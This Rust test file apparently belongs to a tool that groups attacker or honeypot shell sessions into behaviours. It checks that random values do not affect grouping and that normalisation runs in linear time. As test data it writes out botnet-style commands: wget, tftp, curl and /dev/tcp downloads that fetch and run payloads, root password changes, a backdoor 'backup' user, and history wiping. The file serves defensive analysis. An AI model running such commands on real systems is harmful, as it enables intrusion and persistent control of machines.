//! Properties of all sessions: the behaviour does not depend on what is random, and takes linear time.

use std::time::{Duration, Instant};

use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use crate::session::Made;

/// The values that a bot draws anew for each session.
#[derive(Debug, Clone)]
struct Drawn {
    address: String,
    port: u16,
    name: String,
    password: String,
    number: u32,
    times: usize,
}

fn drawn() -> impl Strategy<Value = Drawn> {
    let address = (1_u8..224, any::<u8>(), any::<u8>(), any::<u8>())
        .prop_filter("not loopback", |(first, ..)| *first != 127)
        .prop_map(|(a, b, c, d)| format!("{a}.{b}.{c}.{d}"));
    let name = "[A-Z][0-9][a-z]{2}[0-9][A-Z]{2}[a-z][0-9][a-z]";
    (
        address,
        1024_u16..,
        name,
        "[A-Za-z0-9]{12}",
        1000_u32..10_000_000,
        1_usize..30,
    )
        .prop_map(|(address, port, name, password, number, times)| Drawn {
            address,
            port,
            name,
            password,
            number,
            times,
        })
}

/// The scripts of some bots, with what they draw.
fn scripts(drawn: &Drawn) -> Vec<Vec<String>> {
    let Drawn {
        address,
        port,
        name,
        password,
        number,
        times,
    } = drawn;
    let list = vec![address.as_str(); *times].join(" ");
    vec![
        vec![
            format!(
                "cd /tmp; wget http://{address}:{port}/{name}.sh; tftp -g -r {name}.sh {address}; sh {name}.sh; rm -rf {name}*"
            ),
            "history -c".to_owned(),
        ],
        vec![
            format!("echo \"root:{password}\"|chpasswd|bash"),
            "uname -a".to_owned(),
        ],
        vec![
            format!("echo -e \"{password}\\n{password}\"|passwd"),
            "uname -a".to_owned(),
        ],
        vec![format!("useradd -p $(openssl passwd -1 {password}) backup")],
        vec![format!("nohup /tmp/{name} {list} > /dev/null &")],
        vec![format!("kill -9 {number}"); *times],
        vec![format!(
            "dd bs=1 count={number} of=/tmp/{name}; chmod +x /tmp/{name}; /tmp/{name} {port}"
        )],
        vec![format!("echo {name} > /tmp/{name}; cat /tmp/{name}")],
        vec![format!(
            "exec 6<>/dev/tcp/{address}/{port}; cat <&6 > /tmp/{name}; sh -c 'chmod 777 /tmp/{name}'"
        )],
        vec!["cd /tmp; ./payload".to_owned(); *times],
    ]
}

fn behaviours(drawn: &Drawn) -> Vec<String> {
    let scripts = scripts(drawn);
    scripts
        .iter()
        .map(|script| Made::of(script).behaviour())
        .collect()
}

proptest! {
    #[test]
    fn what_is_random_makes_no_difference(one in drawn(), other in drawn()) {
        let all = behaviours(&one);
        prop_assert_eq!(&all, &behaviours(&other));
        let different: std::collections::HashSet<_> = all.iter().collect();
        prop_assert_eq!(different.len(), all.len(), "different scripts share a behaviour");
    }

    #[test]
    fn where_a_script_is_cut_into_lines_makes_no_difference(commands in prop::collection::vec("[a-z]{1,8} [a-z/.-]{0,9}[a-z]", 1..9)) {
        let joined = commands.join("; ");
        prop_assert_eq!(Made::of(&[joined]).normal_form(), Made::of(&commands).normal_form());
    }

    #[test]
    fn any_text_has_a_normal_form(lines in prop::collection::vec(any::<String>(), 0..6)) {
        prop_assert_eq!(Made::of(&lines).normal_form(), Made::of(&lines).normal_form());
    }
}

/// Text of twenty times the length takes at most forty times as long.
#[test]
fn hostile_sessions_take_linear_time() {
    let shapes = [
        "$(",
        "`",
        "'",
        "\"",
        "$($(x)",
        "\"$(",
        "(",
        ">",
        "\\x",
        ">/.a ",
        "cd /a;cd /b;",
        "wget http://a/b;rm b*;",
        "x|",
        "a/",
        "1.",
        "=:",
        "sh -c '",
        "echo YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXowMTIz |",
        "echo x>a;cat a>b;",
        "\\r\\n",
        "::",
        "é",
    ];
    for shape in shapes {
        let took = |bytes: usize| {
            let text = shape.repeat(bytes / shape.len());
            let since = Instant::now();
            Made::of(&[text]).normal_form();
            since.elapsed()
        };
        let short = took(4_000).max(Duration::from_millis(20));
        let long = took(80_000);
        assert!(long < short * 40, "{shape}: {short:?}, then {long:?}");
    }
}

/// Twenty thousand sessions of thirty bots, each in its own words, have thirty behaviours.
#[test]
fn many_sessions_of_few_bots_have_few_behaviours() {
    const BOTS: usize = 30;
    let mut rng = StdRng::seed_from_u64(3);
    let mut found = vec![std::collections::HashMap::new(); BOTS];
    for session in 0..20_000 {
        let bot = session % BOTS;
        let commands = generated(bot, &mut rng);
        *found[bot]
            .entry(Made::of(&commands).behaviour())
            .or_insert(0_u64) += 1;
    }
    let distinct: std::collections::HashSet<_> =
        found.iter().flat_map(|found| found.keys()).collect();
    let all: usize = found.iter().map(|found| found.len()).sum();
    assert_eq!(distinct.len(), all, "two bots share a behaviour");
    let most: u64 = found.iter().filter_map(|found| found.values().max()).sum();
    println!(
        "{} behaviours of {BOTS} bots; {most} of 20000 sessions have the main one of their bot",
        distinct.len()
    );
    assert!(
        most >= 19_600,
        "only {most} sessions have the main behaviour of their bot"
    );
}

/// Makes a session of a bot. The parts of a script follow from the number of the bot, and what it draws from `rng`.
fn generated(bot: usize, rng: &mut StdRng) -> Vec<String> {
    let letters = |rng: &mut StdRng, count: usize, first: u8| -> String {
        (0..count)
            .map(|_| char::from(first + rng.random_range(0..26_u8)))
            .collect()
    };
    let address = format!(
        "198.51.{}.{}",
        rng.random_range(0..256),
        rng.random_range(1..255)
    );
    let name = letters(rng, 9, b'a');
    let word = letters(rng, 5, b'A');
    let fetch = [
        format!("wget http://{address}/{name} -O {name}"),
        format!("curl -o {name} http://{address}/{name}"),
        format!("tftp -g -r {name} {address}"),
        format!("ftpget {address} {name} {name}"),
        format!("busybox wget http://{address}/{name}"),
    ];
    let probe = [
        format!("cat /proc/mounts; /bin/busybox {word}"),
        format!("uname -a; /bin/busybox {word}"),
        "nproc".to_owned(),
    ];
    let clean = [format!("rm -rf {name}"), "history -c".to_owned()];
    let mut session = vec![probe[bot % 3].clone()];
    session.extend(
        (0..rng.random_range(1..6)).map(|_| format!("kill -9 {}", rng.random_range(100..40_000))),
    );
    let run = format!("{}; chmod 777 {name}; ./{name}", fetch[bot / 3 % 5]);
    session.extend(vec![run; rng.random_range(1..28)]);
    session.push(clean[bot / 15 % 2].clone());
    session
}
